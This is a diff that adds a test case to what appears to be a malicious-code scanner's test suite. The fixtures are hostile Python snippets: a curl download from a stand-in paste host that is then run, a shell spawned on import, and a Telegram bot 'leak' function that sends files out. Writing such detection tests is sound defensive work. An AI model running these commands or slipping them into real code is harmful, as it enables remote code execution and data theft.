@@ -206,3 +206,14 @@ test('PowerShell told to bypass the execution policy and hide its window is high
   const visible = 'import subprocess\ndef go(p):\n    subprocess.run(["powershell", "-File", p + "/build.ps1"])\n';
   assert.equal(ruleOf(findings(visible), 'process-launch-payload')?.severity, 'low');
 });
+
+test('a download then run in one command line, a bare shell started on import, and a Telegram bot library are caught', () => {
+  const fetchRun =
+    'import os\ndef go():\n    os.system("curl -sL https://paste.example/raw/x -o %TEMP%\\\\h.py && python %TEMP%\\\\h.py")\n';
+  assert.equal(ruleOf(findings(fetchRun), 'download-execute')?.severity, 'high');
+  const shell = 'import subprocess\nsubprocess.call("/bin/sh")\n';
+  assert.equal(ruleOf(findings(shell, 'demo/main.py'), 'process-launch-payload')?.severity, 'high');
+  const bot =
+    'import telebot\nbot = telebot.TeleBot(TOKEN)\ndef leak(path):\n    bot.send_document(1, open(path, "rb"))\n';
+  assert.ok(findings(bot).some((f) => f.rule === 'egress-network-call' && /send_document/.test(f.message)));
+});
